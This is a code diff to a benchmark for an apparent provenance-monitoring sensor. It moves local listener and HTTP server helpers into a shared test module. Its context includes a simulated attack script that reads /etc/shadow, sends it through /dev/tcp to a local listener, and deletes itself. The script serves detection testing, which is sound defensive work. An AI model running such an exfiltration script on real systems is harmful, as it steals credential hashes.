@@ -20,6 +20,7 @@ import { MemorySource, syntheticWorkload, traceGraph, type ProvenanceGraph, type
 import { LocalStore } from '../sensor/src/output/local/local-store.ts';
 import { LocalStoreSource } from '../sensor/src/graph/local-source.ts';
 import { startSensor, type RunningSensor } from '../test/support/sensor.ts';
+import { HTTP_SERVER_PY, LISTENER_PY, readFirstLine, within } from '../test/support/scenario.ts';
 import type { Benchmark } from './harness.ts';
 
 const ROOT = resolve(import.meta.dir, '..');
@@ -146,46 +147,6 @@ interface Capture {
 
 let capture: Capture | undefined;
 
-const LISTENER = `
-import socket
-s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-s.bind(("127.0.0.1", 0)); s.listen(1)
-print(s.getsockname()[1], flush=True)
-s.settimeout(60)
-c, _ = s.accept()
-while c.recv(65536): pass
-`;
-const HTTP = `
-import functools, http.server, sys
-h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])
-h.log_message = lambda *a: None
-srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), h)
-print(srv.server_address[1], flush=True)
-srv.serve_forever()
-`;
-
-/** The promise's value, or `fallback` after `ms` (the timer is cleared either way: nothing keeps the process alive). */
-async function within<T, F>(promise: Promise<T>, ms: number, fallback: F): Promise<T | F> {
-  let timer: ReturnType<typeof setTimeout> | undefined;
-  try {
-    return await Promise.race([promise, new Promise<F>((done) => (timer = setTimeout(() => done(fallback), ms)))]);
-  } finally {
-    clearTimeout(timer);
-  }
-}
-
-async function firstLine(proc: ReturnType<typeof Bun.spawn>): Promise<string> {
-  const reader = (proc.stdout as ReadableStream<Uint8Array>).getReader();
-  let text = '';
-  while (!text.includes('\n')) {
-    const { value, done } = await reader.read();
-    if (done) break;
-    text += new TextDecoder().decode(value);
-  }
-  reader.releaseLock();
-  return text.trim();
-}
-
 /** Sensor on; `npm ci --offline` in a temp copy of this repository's manifest, the attack beside it; sensor off. */
 async function captureRealWorkload(): Promise<Capture> {
   const root = mkdtempSync(join(tmpdir(), 'provmon-bench-capture-'));
@@ -198,12 +159,12 @@ async function captureRealWorkload(): Promise<Capture> {
   mkdirSync(join(root, 'dl'));
   const dropped = join(root, 'dl', 'update.sh');
   const env = { ...Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('PROVMON_'))), PROVMON_CONFIG: '' };
-  const listener = Bun.spawn(['python3', '-c', LISTENER], { stdout: 'pipe', stderr: 'ignore', env });
-  const http = Bun.spawn(['python3', '-c', HTTP, join(root, 'srv')], { stdout: 'pipe', stderr: 'ignore', env });
+  const listener = Bun.spawn(['python3', '-c', LISTENER_PY], { stdout: 'pipe', stderr: 'ignore', env });
+  const http = Bun.spawn(['python3', '-c', HTTP_SERVER_PY, join(root, 'srv')], { stdout: 'pipe', stderr: 'ignore', env });
   let sensor: RunningSensor | undefined;
   try {
-    const listenerPort = Number(await firstLine(listener));
-    const httpPort = Number(await firstLine(http));
+    const listenerPort = Number(await readFirstLine(listener));
+    const httpPort = Number(await readFirstLine(http));
     writeFileSync(
       join(root, 'srv', 'update.sh'),
       ['#!/bin/bash', "read -r -d '' loot < /etc/shadow", `exec 3<>/dev/tcp/127.0.0.1/${listenerPort}`, 'printf "%s" "$loot" >&3', 'exec 3>&-', 'rm -f "$0"', ''].join('\n'),
